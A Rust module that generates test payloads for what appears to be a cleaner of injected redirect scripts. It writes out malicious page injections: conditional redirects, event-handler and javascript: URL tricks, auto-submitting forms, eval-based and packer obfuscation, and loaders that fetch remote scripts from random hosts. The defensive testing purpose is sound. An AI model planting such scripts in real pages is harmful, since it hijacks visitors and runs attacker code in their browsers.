//! Redirect scripts (plain, conditional and obfuscated redirects, handlers, auto-submitting
//! forms) and the issue-14 class 3: redirects that never spell `location`, URLs built at run
//! time, indirect eval. Each planted script carries a marker identifier: the script must be
//! gone, so the marker must be.

use base64::Engine;

use super::rng::Rng;
use super::{Kind, Payload, Template};

const fn t(
    family: &'static str,
    class: u8,
    name: &'static str,
    make: fn(&mut Rng) -> Payload,
) -> Template {
    Template {
        family,
        class,
        name,
        kind: Kind::Script,
        active: true,
        make,
    }
}

pub const TEMPLATES: &[Template] = &[
    t("B1", 0, "plain-navigation", plain),
    t("B1", 0, "window-open-self", open_self),
    t("B2", 0, "referer-delayed", referer),
    t("B2", 0, "mobile-cookie", mobile),
    t("B4", 0, "event-handler", handler),
    t("B4", 0, "javascript-url", js_url),
    t("B4", 0, "data-script", data_script),
    t("B7", 0, "auto-submit-form", auto_submit),
    t("B5", 0, "meta-refresh", meta_refresh),
];

pub const OBFUSCATED: &[Template] = &[
    t("B3", 0, "eval-decoded", eval_decoded),
    t("B3", 0, "escaped-names", escaped_names),
    t("B3", 0, "script-loader", loader),
    t("B3", 0, "payload-in-attribute", in_attribute),
    t("B3", 0, "packer", packer),
    t("B3", 3, "string-timer", string_timer),
    t("B3", 3, "bracket-concat", bracket_concat),
    t("B3", 3, "reflect-assign", reflect),
    t("B3", 3, "runtime-url", runtime_url),
    t("B3", 3, "indirect-eval", indirect_eval),
];

/// A script payload: `<script>` around `js`, planted by its marker.
fn script(r: &mut Rng, marker: &str, js: String) -> Payload {
    let s = r.tag("script");
    let ty = *r.pick(&[
        "",
        "",
        " type=\"text/javascript\"",
        " language=\"javascript\"",
    ]);
    Payload {
        html: format!("<{s}{ty}>{js}</{s}>"),
        planted: vec![marker.to_string()],
        ..Default::default()
    }
}

fn target(r: &mut Rng) -> String {
    let host = r.host();
    format!("https://{host}/?from=gov")
}

/// One way of navigating the top window to `u` (a JS expression).
fn sink(r: &mut Rng, u: &str) -> String {
    match r.below(11) {
        0 => format!("location={u}"),
        1 => format!("window.location.href={u}"),
        2 => format!("location.replace({u})"),
        3 => format!("window.location.assign({u})"),
        4 => format!("top.location={u}"),
        5 => format!("document.location.href={u}"),
        6 => format!("self.location={u}"),
        7 => format!("location[\"href\"]={u}"),
        8 => format!("window.top.location.replace({u})"),
        9 => format!("parent.location.href={u}"),
        _ => format!("document.location={u}"),
    }
}

fn plain(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let go = sink(r, &m);
    script(r, &m, format!("var {m}=\"{u}\";{go};"))
}

fn open_self(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    script(r, &m, format!("var {m}='{u}';window.open({m},'_self');"))
}

fn referer(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let go = sink(r, &format!("'{u}'"));
    let delay = r.below(5000);
    script(
        r,
        &m,
        format!(
            "function {m}(){{{go}}}if(/google|coccoc|bing/i.test(document.referrer)||1){{setTimeout({m},{delay})}}"
        ),
    )
}

fn mobile(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let go = sink(r, &format!("'{u}'"));
    script(
        r,
        &m,
        format!(
            "(function {m}(){{var a=navigator.userAgent;if(document.cookie.indexOf('wp-settings')>=0)return;\
if(!/Android|iPhone|Mobile/i.test(a)&&document.cookie.indexOf('v=1')>=0)return;document.cookie='v=1';setTimeout(function(){{{go}}},1200)}})();"
        ),
    )
}

fn handler(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    // The handler sits in a double-quoted attribute: its quotes are written as references.
    let go = sink(r, &format!("'{u}'")).replace('"', "&quot;");
    let html = match r.below(4) {
        0 => format!("<img src=\"/khong-co.png\" onerror=\"var {m}=1;{go}\" alt=\"\">"),
        1 => format!("<svg onload=\"var {m}=1;{go}\"></svg>"),
        2 => format!("<img src=x ONERROR=\"{m}=0;{go}\">"),
        _ => format!("<details open ontoggle=\"var {m}=1;{go}\"><summary>.</summary></details>"),
    };
    Payload {
        html,
        planted: vec![m],
        ..Default::default()
    }
}

fn js_url(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let scheme = *r.pick(&[
        "javascript:",
        "java&#x09;script:",
        "&#106;avascript:",
        "JAVASCRIPT:",
        " javascript&colon;",
    ]);
    let html = match r.below(2) {
        0 => format!(
            "<iframe src=\"{scheme}var {m}=1;top.location='{u}'\" width=0 height=0></iframe>"
        ),
        _ => format!(
            "<a href=\"{scheme}void({m}=location='{u}')\" id=\"tai-ve\">Tải về</a><script>document.getElementById('tai-ve').click()</script>"
        ),
    };
    Payload {
        html,
        planted: vec![m],
        ..Default::default()
    }
}

fn data_script(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let js = format!("var {m}=1;location.replace('{u}')");
    let b64 = base64::engine::general_purpose::STANDARD.encode(&js);
    let html = match r.below(2) {
        0 => format!("<script src=\"data:text/javascript;base64,{b64}\" data-m=\"{m}\"></script>"),
        _ => format!(
            "<script src=\"data:,{}\" data-m=\"{m}\"></script>",
            js.replace(' ', "%20")
        ),
    };
    Payload {
        html,
        planted: vec![m],
        ..Default::default()
    }
}

fn auto_submit(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    // The script only submits: once the form's action is gone it is harmless, so only the
    // action is judged (and the browser's view of where the page went).
    let html = format!(
        "<form id=\"f{m}\" action=\"{u}\" method=\"post\"><input type=\"hidden\" name=\"r\" value=\"gov\"></form>\
<script>document.getElementById('f{m}').submit();</script>"
    );
    Payload {
        html,
        ..Default::default()
    }
}

fn meta_refresh(r: &mut Rng) -> Payload {
    let host = r.host();
    let u = r.url(&host);
    let content = match r.below(6) {
        0 => format!("0;url={u}"),
        1 => format!("0; URL='{u}'"),
        2 => format!("  3 ;  url = {u}"),
        3 => format!("1,url={u}"),
        4 => format!("0;URL=\"{u}\""),
        _ => format!("0;{u}"),
    };
    let equiv = *r.pick(&["refresh", "Refresh", "REFRESH", " refresh "]);
    let meta = r.tag("meta");
    let c = r.attr("content", &content);
    let e = r.attr("http-equiv", equiv);
    let html = if r.chance(50) {
        format!("<{meta}{e}{c}>")
    } else {
        format!("<{meta}{c}{e}>")
    };
    Payload {
        html,
        head: r.chance(50),
        planted: vec![],
        ..Default::default()
    }
}

fn char_codes(s: &str) -> String {
    s.bytes()
        .map(|b| b.to_string())
        .collect::<Vec<_>>()
        .join(",")
}

fn eval_decoded(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let js = format!("window.location.href='{u}'");
    let body = match r.below(4) {
        0 => format!("var {m}=1;eval(String.fromCharCode({}))", char_codes(&js)),
        1 => format!(
            "var {m}=atob('{}');eval({m})",
            base64::engine::general_purpose::STANDARD.encode(&js)
        ),
        2 => format!(
            "var {m}=unescape('{}');eval({m})",
            js.bytes().map(|b| format!("%{b:02x}")).collect::<String>()
        ),
        _ => format!(
            "var {m}=new Function(atob('{}'));{m}()",
            base64::engine::general_purpose::STANDARD.encode(&js)
        ),
    };
    script(r, &m, body)
}

fn escaped_names(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let body = match r.below(3) {
        0 => format!("var {m}=\"{u}\";window[\"\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e\"]={m}"),
        1 => format!("var {m}=\"{u}\";window.\\u006cocation.href={m}"),
        _ => {
            format!("var {m}=\"{u}\";window[\"\\u006c\\u006f\\u0063ation\"][\"\\x72eplace\"]({m})")
        }
    };
    script(r, &m, body)
}

fn loader(r: &mut Rng) -> Payload {
    let m = r.marker();
    let host = r.host();
    let body = match r.below(3) {
        0 => format!(
            "var {m}=1;document.write('<scr'+'ipt src=\"https://{host}/j.js\"></scr'+'ipt>')"
        ),
        1 => format!(
            "var {m}=document.createElement('script');{m}.src='//{host}/l.js';document.head.appendChild({m})"
        ),
        _ => format!(
            "var {m}=document.createElement(\"SCRIPT\");{m}.setAttribute('src','https://'+'{host}'+'/x.js');document.body.appendChild({m})"
        ),
    };
    script(r, &m, body)
}

fn in_attribute(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let b64 = base64::engine::general_purpose::STANDARD.encode(&u);
    Payload {
        html: format!(
            "<script data-{m}=\"{b64}\">var s=document.currentScript;location.replace(atob(s.getAttribute('data-{m}')))</script>"
        ),
        planted: vec![m],
        ..Default::default()
    }
}

fn bracket_concat(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let body = match r.below(4) {
        0 => format!("var {m}=window;{m}['loc'+'ation']='{u}'"),
        1 => format!("var {m}='ati';window['loc'+{m}+'on']['hr'+'ef']='{u}'"),
        2 => format!("var {m}=['lo','ca','tion'].join('');top[{m}].replace('{u}')"),
        _ => format!("var {m}='noitacol'.split('').reverse().join('');self[{m}]='{u}'"),
    };
    script(r, &m, body)
}

fn reflect(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let body = match r.below(4) {
        0 => format!("var {m}=window['loca'+'tion'];Reflect.set({m},'href','{u}')"),
        1 => format!("var {m}='{u}';Object.assign(document['loc'+'ation'],{{href:{m}}})"),
        2 => format!("var {m}=window[atob('bG9jYXRpb24=')];Reflect.apply({m}.replace,{m},['{u}'])"),
        _ => format!(
            "var {m}=Object.getOwnPropertyDescriptor(window,'loc'+'ation');{m}.get.call(window).assign('{u}')"
        ),
    };
    script(r, &m, body)
}

fn runtime_url(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let k = 1 + r.below(30) as u8;
    let dest = sink(r, "p");
    let build = match r.below(5) {
        0 => {
            let codes: Vec<String> = u
                .bytes()
                .enumerate()
                .map(|(i, b)| (u32::from(b) + i as u32).to_string())
                .collect();
            format!(
                "var {m}=[{}],p='';for(var i=0;i<{m}.length;i++)p+=String.fromCharCode({m}[i]-i);",
                codes.join(",")
            )
        }
        1 => {
            let codes: Vec<String> = u.bytes().map(|b| (b ^ k).to_string()).collect();
            format!(
                "var {m}=[{}],p='';for(var i=0;i<{m}.length;i++)p+=String.fromCharCode({m}[i]^{k});",
                codes.join(",")
            )
        }
        2 => format!(
            "var {m}=[{}],p=String.fromCharCode.apply(null,{m});",
            char_codes(&u)
        ),
        3 => format!(
            "var {m}='{}',p={m}.split('').reverse().join('');",
            u.chars().rev().collect::<String>()
        ),
        _ => format!(
            "var {m}='{}',p={m}.split('|').join('');",
            u.chars().map(String::from).collect::<Vec<_>>().join("|")
        ),
    };
    let go = if r.chance(50) {
        format!("(0,eval)('{}')", dest.replace('\'', "\\'"))
    } else {
        dest
    };
    script(r, &m, format!("{build}{go}"))
}

fn indirect_eval(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let code = format!("top.location.replace('{u}')");
    let rev: String = code.chars().rev().collect();
    let body = match r.below(4) {
        0 => format!(
            "var {m}='{}'.split('').reverse().join('');(0,eval)({m})",
            rev.replace('\'', "\\'")
        ),
        1 => format!(
            "var {m}=atob('{}');Function({m})()",
            base64::engine::general_purpose::STANDARD.encode(&code)
        ),
        2 => format!(
            "var {m}=[{}];window['ev'+'al'](String.fromCharCode.apply(0,{m}))",
            char_codes(&code)
        ),
        _ => format!(
            "var {m}=atob('{}');setTimeout({m},10)",
            base64::engine::general_purpose::STANDARD.encode(&code)
        ),
    };
    script(r, &m, body)
}

/// The `eval(function(p,a,c,k,e,d){…})` packer: words of the payload replaced by base-36
/// indices into a dictionary, unpacked and evaluated at run time.
fn packer(r: &mut Rng) -> Payload {
    let m = r.marker();
    let host = r.host();
    let (name, tld) = host.rsplit_once('.').unwrap_or((host.as_str(), "test"));
    let words = ["window", "location", "href", "https", name, tld];
    let dict = words.join("|");
    let code = "0.1.2=\\'3://4.5/\\'";
    let body = format!(
        "var {m}=1;eval(function(p,a,c,k,e,d){{e=function(c){{return c.toString(36)}};if(!''.replace(/^/,String)){{while(c--){{d[c.toString(a)]=k[c]||c.toString(a)}}k=[function(e){{return d[e]}}];e=function(){{return'\\\\w+'}};c=1}};while(c--){{if(k[c]){{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}}}return p}}('{code}',36,6,'{dict}'.split('|'),0,{{}}))"
    );
    script(r, &m, body)
}

/// A timer given a string: the string is code, evaluated like `eval`.
fn string_timer(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = target(r);
    let split: String = u
        .chars()
        .map(|c| format!("{c}"))
        .collect::<Vec<_>>()
        .join("'+'");
    let body = match r.below(3) {
        0 => format!("var {m}='top.loc'+'ation=\\'{u}\\'';setTimeout({m},1500)"),
        1 => {
            format!("var {m}=\"win\"+\"dow.open('\"+'{split}'+\"','_self')\";setInterval({m},900)")
        }
        _ => format!(
            "var {m}=['replace','location'];window.setTimeout('self['+JSON.stringify({m}[1])+'].'+{m}[0]+'(\"{u}\")',10)"
        ),
    };
    script(r, &m, body)
}
